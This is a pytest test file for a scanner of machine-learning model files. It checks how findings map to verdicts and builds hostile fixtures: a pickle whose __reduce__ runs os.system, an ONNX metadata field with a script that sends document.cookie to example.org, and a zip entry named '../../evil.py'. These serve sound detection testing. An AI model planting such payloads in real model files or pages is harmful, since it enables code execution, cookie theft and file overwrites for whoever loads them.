"""What is wrong with a file reaches the verdict, whatever its network looks like."""

from __future__ import annotations

import json
import pickle
import shutil
import zipfile
from pathlib import Path

import onnx
import pytest
from click.testing import CliRunner

from modelscan_bd import rulebook
from modelscan_bd.audit import Remark
from modelscan_bd.cli import main
from modelscan_bd.file_findings import file_findings, finding
from modelscan_bd.settings import Settings
from modelscan_bd.types import Confidence, Severity, Verdict
from modelscan_bd.verdict import verdict

SAMPLES = Path(__file__).parent.parent / "samples"
BOOK = rulebook.load()


def remark(severity: Severity) -> Remark:
    return Remark(
        rule="BD904", severity=severity, confidence=Confidence.HIGH, message="It is two things.", place="a.pkl, byte 3"
    )


@pytest.mark.parametrize(
    ("severity", "expected"),
    [
        (Severity.LOW, Verdict.BENIGN),
        (Severity.MEDIUM, Verdict.SUSPICIOUS),
        (Severity.HIGH, Verdict.SUSPICIOUS),
        (Severity.CRITICAL, Verdict.MALICIOUS),
    ],
)
def test_a_file_is_suspicious_or_malicious_and_never_infected(severity: Severity, expected: Verdict) -> None:
    found = finding(remark(severity), BOOK)
    assert verdict([found], ()) is expected
    assert (found.place, found.detector) == ("a.pkl, byte 3", None)
    assert found.remedy


@pytest.mark.parametrize("name", ["benign.onnx", "benign.safetensors", "infected.onnx", "infected.safetensors"])
def test_the_samples_files_are_clean(name: str) -> None:
    assert file_findings(Settings(model=str(SAMPLES / name)), BOOK) == ()


def test_what_is_not_there_is_left_to_the_loader() -> None:
    assert file_findings(Settings(model="timm:resnet18"), BOOK) == ()


def test_a_pickle_that_calls_is_malicious_and_not_loaded(tmp_path: Path) -> None:
    canary, file = tmp_path / "canary", tmp_path / "model.pt"

    class Payload:
        def __reduce__(self) -> tuple[object, tuple[object, ...]]:
            return (Path.touch, (canary,))

    class Shell:
        def __reduce__(self) -> tuple[object, tuple[object, ...]]:
            import os

            return (os.system, (f"touch {canary}",))

    file.write_bytes(pickle.dumps([Payload(), Shell()]))
    result = CliRunner().invoke(main, [str(file), "--report", str(tmp_path / "out.json")])
    assert result.exit_code == 1, result.output
    report = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
    assert report["verdict"] == "malicious"
    assert any("byte" in one["place"] for one in report["findings"])
    assert not canary.exists()


def test_a_benign_network_in_a_strange_file_is_suspicious(tmp_path: Path) -> None:
    model = onnx.load(SAMPLES / "benign.onnx")
    text = model.metadata_props.add()
    text.key, text.value = "description", "<script>fetch('http://example.org/'+document.cookie)</script>"
    onnx.save(model, tmp_path / "model.onnx")
    arguments = [str(tmp_path / "model.onnx"), "--detectors", "head-signature", "--report", str(tmp_path / "out.json")]
    result = CliRunner().invoke(main, arguments)
    report = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
    assert (result.exit_code, report["verdict"]) == (1, "suspicious"), result.output
    assert report["score"] >= 0.5
    assert report["findings"][0]["rule"].startswith("BD9")


def test_what_attacks_its_readers_is_not_only_called_broken(tmp_path: Path) -> None:
    """The loader ends at such a file as broken; once that was all that the report said."""
    file, report = tmp_path / "m.pt", tmp_path / "out.json"
    shutil.copy(SAMPLES / "benign.pt", file)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("../../evil.py", "print(1)")
    ended = CliRunner().invoke(main, [str(file), "--report", str(report), "--quiet"])
    told = json.loads(report.read_text())
    assert ended.exit_code == 1
    assert told["verdict"] == "suspicious"
    assert "BD907" in [one["rule"] for one in told["findings"]]
    assert told["incomplete"]
